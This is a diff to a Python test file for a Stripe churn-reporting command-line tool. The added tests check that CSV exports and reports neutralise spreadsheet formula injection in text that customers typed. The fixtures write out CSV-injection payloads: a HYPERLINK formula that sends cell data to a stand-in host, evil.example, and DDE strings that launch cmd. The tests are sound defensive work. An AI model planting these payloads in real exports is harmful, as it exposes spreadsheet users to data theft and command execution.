@@ -8,7 +8,10 @@ import datetime as dt
 import io
 import json
 import re
+from collections.abc import Callable
+from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
 import duckdb
 import numpy as np
@@ -17,7 +20,7 @@ from click.testing import CliRunner
 
 from stripe_churn.cli import cli
 from stripe_churn.report.charts import TREND_TITLE, WATERFALL_TITLE, build_figure, waterfall_steps
-from stripe_churn.report.tables import verdict
+from stripe_churn.report.tables import render, verdict
 
 PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
 
@@ -33,8 +36,10 @@ def data_as_of_in(db: Path) -> dt.date:
         con.close()
 
 
-def published_store(path: Path, customers: int, months: int) -> Path:
-    """A simulated account loaded straight into a store at ``path``, recomputed, snapshot published."""
+def published_store(path: Path, customers: int, months: int,
+                    prepare: Callable[[Any], None] | None = None) -> Path:
+    """A simulated account loaded straight into a store at ``path``, recomputed, snapshot published;
+    ``prepare`` may change the simulation's objects before they are loaded."""
     from stripe_churn.metrics.runner import recompute
     from stripe_churn.sandbox.sim import Simulation
     from stripe_churn.settings import Settings
@@ -42,8 +47,11 @@ def published_store(path: Path, customers: int, months: int) -> Path:
     from stripe_churn.store.load import load_simulation
     from stripe_churn.store.snapshot import publish_snapshot
 
+    sim = Simulation(customers=customers, months=months, seed=7)
+    if prepare is not None:
+        prepare(sim)
     con = open_store(path)
-    load_simulation(con, Simulation(customers=customers, months=months, seed=7))
+    load_simulation(con, sim)
     recompute(con, Settings(db=path))
     con.execute("CHECKPOINT")
     con.close()
@@ -299,3 +307,111 @@ def test_the_sync_summary_calls_the_running_month_as_the_report_does(db: Path,
     result = CliRunner().invoke(cli, ["sync", "--format", "json"], env=env)
     assert result.exit_code == 0, result.output
     assert json.loads(result.output)["bridge_line"]["complete"] is False
+
+
+# Text that customers type into Stripe (a name, a cancellation comment or feedback, a metadata value) and that a
+# spreadsheet opening a CSV would run as a formula.
+HOSTILE_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_FEEDBACK = "+cmd|' /C calc'!A0"
+HOSTILE_NAME = "-2+3+cmd|' /C calc'!A0"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _plant_formulas(sim: Any) -> None:
+    for i, cust in enumerate(sim.objects["customers"].values()):
+        cust["metadata"] = {**(cust.get("metadata") or {}), "team": HOSTILE_SEGMENT if i % 2 else "ops"}
+        if i % 3 == 0:
+            cust["name"] = HOSTILE_NAME
+    cancelled = [s for s in sim.objects["subscriptions"].values() if (s.get("cancellation_details") or {}).get("comment")]
+    assert cancelled
+    for sub in cancelled:
+        sub["cancellation_details"] = {**sub["cancellation_details"], "comment": HOSTILE_COMMENT,
+                                       "feedback": HOSTILE_FEEDBACK}
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A simulated account whose customers typed formulas into their name, metadata and cancellation details."""
+    return published_store(tmp_path_factory.mktemp("hostile") / "h.duckdb", customers=40, months=6,
+                           prepare=_plant_formulas)
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _assert_no_formula(cells: list[str]) -> None:
+    """No cell would run as a formula: those that start like one are numbers."""
+    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
+    assert not bad, bad
+
+
+def test_csv_export_neutralises_text_that_starts_like_a_formula(hostile_db: Path, tmp_path: Path) -> None:
+    """A comment, feedback or name starting with = + - @ (TAB, CR) gets a leading ' in the CSV; negative amounts
+    stay numbers, and Parquet keeps the text as it is."""
+    names = ("mrr_movements", "churn_reasons", "customers", "subscriptions")
+    run(hostile_db, "export", "--format", "csv", "--out", str(tmp_path / "c"), *names)
+    files = {n: list(csv.DictReader(io.StringIO((tmp_path / "c" / f"{n}.csv").read_text()))) for n in names}
+    for rows in files.values():
+        assert rows
+        _assert_no_formula([v for r in rows for v in r.values()])
+    comments = {r["cancellation_comment"] for r in files["subscriptions"]} - {""}
+    assert comments == {"'" + HOSTILE_COMMENT}
+    feedback = {r["cancellation_feedback"] for r in files["mrr_movements"] if r["movement"] == "cancellation"}
+    assert "'" + HOSTILE_FEEDBACK in feedback
+    negative = [r["mrr_delta"] for r in files["mrr_movements"] if r["mrr_delta"].startswith("-")]
+    assert negative and all(_is_number(v) for v in negative)  # e.g. -30.0000, no quote
+    assert "'" + HOSTILE_FEEDBACK in {r["cancellation_feedback"] for r in files["churn_reasons"]}
+    assert "'" + HOSTILE_NAME in {r["name"] for r in files["customers"]}
+    assert "Customer 2" in {r["name"] for r in files["customers"]}  # (other text as it is)
+    run(hostile_db, "export", "--format", "parquet", "--out", str(tmp_path / "p"), "mrr_movements")
+    got = duckdb.connect().execute("SELECT DISTINCT cancellation_feedback FROM read_parquet(?) "
+                                   "WHERE cancellation_feedback LIKE '%cmd%'",
+                                   [str(tmp_path / "p" / "mrr_movements.parquet")]).fetchall()
+    assert got == [(HOSTILE_FEEDBACK,)]
+
+
+def test_report_csv_neutralises_a_metadata_segment_and_json_keeps_it(hostile_db: Path) -> None:
+    out = run(hostile_db, "report", "--segment", "metadata.team", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    _assert_no_formula([v for r in rows for v in r.values()])
+    assert {r["segment_value"] for r in rows} == {"ops", "'" + HOSTILE_SEGMENT}
+    negative = [r["net_revenue_churn_rate"] for r in rows if r["net_revenue_churn_rate"].startswith("-")]
+    assert negative and all(_is_number(v) for v in negative)  # (a float, no quote)
+    data = json.loads(run(hostile_db, "report", "--segment", "metadata.team", "--format", "json"))
+    assert {r["segment_value"] for r in data} == {"ops", HOSTILE_SEGMENT}
+
+
+def test_sql_csv_neutralises_text_too(hostile_db: Path) -> None:
+    """(the user's own query, over data that customers typed)"""
+    query = "SELECT DISTINCT name, -1.5 AS amount FROM customers ORDER BY name"
+    rows = list(csv.reader(io.StringIO(run(hostile_db, "sql", query, "--format", "csv"))))
+    assert rows[0] == ["name", "amount"]
+    assert ["'" + HOSTILE_NAME, "-1.5"] in rows[1:]
+    _assert_no_formula([v for r in rows for v in r])
+    data = json.loads(run(hostile_db, "sql", query, "--format", "json"))
+    assert {"name": HOSTILE_NAME, "amount": -1.5} in data
+
+
+def test_render_csv_quotes_text_cells_only() -> None:
+    rows = [["=1+1", Decimal("-30.0000"), -3, -2.5, dt.date(2024, 1, 1), None],
+            ["\tx", Decimal("1"), 0, 0.0, None, "\r=2"],
+            ["-", None, None, None, None, "plain - text"],
+            ["@a", None, None, None, None, "+1"],
+            ["ok\r=cmd", None, None, None, None, "two\nlines"]]
+    out = render(["text", "amount", "n", "f", "day", "other"], rows, "csv")
+    assert list(csv.reader(io.StringIO(out))) == [
+        ["text", "amount", "n", "f", "day", "other"],
+        ["'=1+1", "-30.0000", "-3", "-2.5", "2024-01-01", ""],
+        ["'\tx", "1", "0", "0.0", "", "'\r=2"],
+        ["'-", "", "", "", "", "plain - text"],
+        ["'@a", "", "", "", "", "'+1"],
+        ["ok\r=cmd", "", "", "", "", "two\nlines"]]  # (a CR in a cell is quoted: no row starts after it)
+    assert out.count("\n") == 6 and not out.endswith("\n")
+    assert json.loads(render(["text"], [["=1+1"]], "json")) == [{"text": "=1+1"}]
+    assert next(csv.reader(io.StringIO(render(["=x"], [], "csv")))) == ["'=x"]
